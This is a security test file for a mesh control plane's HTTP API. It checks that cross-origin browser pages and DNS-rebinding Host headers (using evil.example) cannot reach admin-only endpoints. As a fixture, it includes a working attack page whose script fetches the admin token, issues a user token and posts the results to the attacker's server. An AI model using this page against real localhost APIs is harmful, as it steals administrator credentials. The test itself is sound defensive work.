// A web page in a browser on the control plane's host is not the localhost admin (docs/tokens.md,
// API access), against the real binary with its default settings: requests sent as a browser
// sends them (`Origin`, a rebound `Host`), and a real Chromium showing a page of another origin.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startControlPlane } from './testing/process.js';
import { sendRaw } from './testing/raw-http.js';

type Instance = Awaited<ReturnType<typeof startControlPlane>>;

let cp: Instance;

beforeAll(async () => {
  cp = await startControlPlane();
  const dataplane = { type: 'Dataplane', mesh: 'default', name: 'web-1', networking: { address: '10.0.0.1', inbound: [{ port: 8080, tags: { 'mesh.io/service': 'web' } }] } };
  expect((await sendRaw(cp.url, { method: 'PUT', path: '/meshes/default/dataplanes/web-1', headers: { 'content-type': 'application/json' }, body: JSON.stringify(dataplane) })).status).toBe(201);
}, 60_000);
afterAll(async () => {
  await cp?.stop();
});

/** What only an admin may do: global secrets, token issuing, configuration dumps. */
const ADMIN_ONLY: Array<{ method: string; path: string; body?: unknown }> = [
  { method: 'GET', path: '/global-secrets/admin-user-token' },
  { method: 'GET', path: '/secrets' },
  { method: 'POST', path: '/tokens/user', body: { name: 'jane', validFor: '1h' } },
  { method: 'POST', path: '/tokens/dataplane', body: { mesh: 'default', name: 'web-1' } },
  { method: 'GET', path: '/meshes/default/dataplanes/web-1/xds' },
];

/** `METHOD path status` of every admin-only request to `baseUrl` with these headers. */
async function statuses(baseUrl: string, headers: Record<string, string>): Promise<string[]> {
  const answers: string[] = [];
  for (const { method, path, body } of ADMIN_ONLY) {
    const reply = await sendRaw(baseUrl, {
      method,
      path,
      headers: { ...headers, ...(body ? { 'content-type': 'application/json' } : {}) },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    answers.push(`${method} ${path} ${reply.status}`);
  }
  return answers;
}
const all = (status: number) => ADMIN_ONLY.map(({ method, path }) => `${method} ${path} ${status}`);

describe('a loopback caller', () => {
  it('is the admin without Origin (curl, meshctl) and from a page of the API own origin, over HTTP and HTTPS', async () => {
    expect(await statuses(cp.url, {})).toEqual(all(200));
    expect(await statuses(cp.url, { origin: cp.url })).toEqual(all(200));
    expect(await statuses(cp.httpsUrl, {})).toEqual(all(200));
    expect(await statuses(cp.httpsUrl, { origin: cp.httpsUrl })).toEqual(all(200));
    expect(await statuses(cp.url, { host: `localhost:${cp.ports.http}`, origin: `http://localhost:${cp.ports.http}` })).toEqual(all(200));
  }, 60_000);

  it('is refused with 403 when a page of another origin sends the request', async () => {
    for (const origin of ['https://evil.example', 'null', `http://127.0.0.1:${cp.ports.diagnostics}`, cp.httpsUrl]) {
      expect(await statuses(cp.url, { origin }), origin).toEqual(all(403));
    }
    expect(await statuses(cp.httpsUrl, { origin: cp.url })).toEqual(all(403));
  }, 60_000);

  it('is refused with 403 under a host name that is not loopback (DNS rebinding)', async () => {
    expect(await statuses(cp.url, { host: `evil.example:${cp.ports.http}` })).toEqual(all(403));
    expect(await statuses(cp.url, { host: `evil.example:${cp.ports.http}`, origin: `http://evil.example:${cp.ports.http}` })).toEqual(all(403));
  }, 60_000);

  it('gets CORS headers without credentials, and none for the origin `null`', async () => {
    const allowed = await sendRaw(cp.url, { method: 'GET', path: '/meshes', headers: { origin: 'https://evil.example' } });
    expect(allowed.headers['access-control-allow-origin']).toBe('https://evil.example');
    expect(allowed.headers['access-control-allow-credentials']).toBeUndefined();
    const sandboxed = await sendRaw(cp.url, { method: 'GET', path: '/meshes', headers: { origin: 'null' } });
    expect(sandboxed.status).toBe(200);
    expect(sandboxed.headers['access-control-allow-origin']).toBeUndefined();
  });
});

/**
 * The page a browser on the host shows, from another origin: it asks the API for the admin token
 * and for a new user token, and posts what it could read back to its own server. Its frame does
 * the same from a sandbox (origin `null`).
 */
function attackPage(api: string, report: string, framed: boolean): string {
  return `<!doctype html>
<html><body>
<script>
const read = async (path, init) => {
  try {
    const res = await fetch(${JSON.stringify(api)} + path, init);
    return { status: res.status, text: await res.text() };
  } catch (error) {
    return { error: String(error) };
  }
};
(async () => {
  const results = {
    origin: String(self.origin),
    secret: await read('/global-secrets/admin-user-token'),
    secretWithCredentials: await read('/global-secrets/admin-user-token', { credentials: 'include' }),
    userToken: await read('/tokens/user', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'mallory', validFor: '1h' }) }),
  };
  await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();
</script>
${framed ? '<iframe sandbox="allow-scripts" src="/frame.html"></iframe>' : ''}
</body></html>`;
}

interface Probe {
  status?: number;
  text?: string;
  error?: string;
}

interface PageReport {
  origin: string;
  secret: Probe;
  secretWithCredentials: Probe;
  userToken: Probe;
}

/** Serves the attacker's page on another loopback port and collects what it reports. */
async function attackerSite(api: string): Promise<{ url: string; reports: PageReport[]; server: Server }> {
  const reports: PageReport[] = [];
  const server = createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        reports.push(JSON.parse(body) as PageReport);
        res.end();
      });
      return;
    }
    if (req.url !== '/' && req.url !== '/frame.html') {
      res.statusCode = 404;
      res.end();
      return;
    }
    res.setHeader('content-type', 'text/html');
    res.end(attackPage(api, `http://${req.headers.host}/report`, req.url === '/'));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reports, server };
}

describe('a page of another origin in a real browser on the host', () => {
  it('reads neither the admin token nor a new user token', async () => {
    const site = await attackerSite(cp.url);
    const profile = mkdtempSync(join(tmpdir(), 'mesh-chromium-'));
    const browser = spawn('/usr/bin/chromium', ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', `--user-data-dir=${profile}`, `${site.url}/`], {
      stdio: 'ignore',
      detached: true,
    });
    try {
      const deadline = Date.now() + 90_000;
      while (site.reports.length < 2 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 200));
      const byOrigin = Object.fromEntries(site.reports.map((report) => [report.origin, report]));
      expect(Object.keys(byOrigin).sort()).toEqual([site.url, 'null'].sort());
      const adminSecret = JSON.parse((await sendRaw(cp.url, { method: 'GET', path: '/global-secrets/admin-user-token' })).text) as { data: string };
      // CORS lets every origin but `null` read answers by default: the page reads refusals; the
      // sandboxed frame reads nothing at all.
      expect(byOrigin[site.url]).toMatchObject({ secret: { status: 403 }, userToken: { status: 403 } });
      expect(byOrigin.null).toMatchObject({ secret: { error: expect.any(String) }, userToken: { error: expect.any(String) } });
      for (const report of site.reports) {
        for (const probe of [report.secret, report.secretWithCredentials, report.userToken]) {
          expect(probe.text ?? '', report.origin).not.toContain(adminSecret.data);
          expect(probe.text ?? '', report.origin).not.toMatch(/^eyJ/);
        }
      }
    } finally {
      if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
      site.server.closeAllConnections();
      await new Promise((resolve) => site.server.close(resolve));
      rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
    }
  }, 120_000);
});
